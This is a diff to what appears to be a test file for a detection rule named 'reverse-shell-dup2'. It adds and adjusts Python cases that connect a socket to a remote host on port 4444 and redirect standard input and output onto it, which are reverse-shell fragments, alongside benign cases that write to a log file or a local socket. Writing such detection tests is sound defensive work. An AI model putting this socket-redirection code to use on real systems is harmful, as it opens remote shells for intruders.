@@ -9,8 +9,7 @@ def connect_back():
     s.connect(("203.0.113.10", 4444))
     # ruleid: reverse-shell-dup2
     os.dup2(s.fileno(), 0)
-    # ruleid: reverse-shell-dup2
-    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 1)  # the stdin line above already tells
     pty.spawn("/bin/true")
 
 
@@ -34,3 +33,19 @@ def client():
     out = open("log.txt", "w")
     # ok: reverse-shell-dup2
     os.dup2(out.fileno(), 1)
+
+
+def forward_logs(socket_path):
+    # stdout/stderr sent to a local log socket: no shell reads from it
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+        s.connect(socket_path)
+        # ok: reverse-shell-dup2
+        os.dup2(s.fileno(), 1)
+
+
+def loop_shell(host):
+    s = socket.socket()
+    s.connect((host, 4444))
+    for fd in (0, 1, 2):
+        # ruleid: reverse-shell-dup2
+        os.dup2(s.fileno(), fd)
